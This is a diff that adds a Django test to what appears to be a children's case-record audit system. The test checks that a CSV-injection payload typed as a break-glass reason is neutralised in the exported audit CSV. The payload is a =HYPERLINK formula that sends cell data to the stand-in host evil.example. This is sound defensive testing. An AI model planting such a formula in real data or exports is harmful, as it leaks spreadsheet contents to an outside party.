@@ -51,6 +51,20 @@ def test_the_auditor_sees_who_looked_at_a_child_and_the_export_is_itself_audited
     assert AccessRecord.objects.filter(kind=AccessKind.EXPORT, person=child, user__username="admin").count() == 1
 
 
+def test_a_break_glass_reason_that_looks_like_a_formula_is_neutralised_in_the_csv(client, child, demo_user):
+    import csv
+    import io
+
+    family = child.memberships.get().family
+    reason = '=HYPERLINK("http://evil.example/?d="&A1,"Open the record")'
+    client.force_login(demo_user("adviser"))
+    client.post(reverse("break-glass", args=[family.pk]), {"reason": reason})
+    assert AccessRecord.objects.get(kind=AccessKind.BREAK_GLASS, family=family).reason == reason  # stored as typed
+    client.force_login(demo_user("admin"))
+    rows = list(csv.reader(io.StringIO(client.get(reverse("audit-person-csv", args=[child.pk])).content.decode())))
+    reasons = [row[-1] for row in rows[1:] if row[-1]]
+    assert reasons == ["'" + reason]
+
 def test_only_administrators_read_the_audit_trail(client, child, demo_user):
     for username in ("manager", "practitioner", "analyst"):
         client.force_login(demo_user(username))
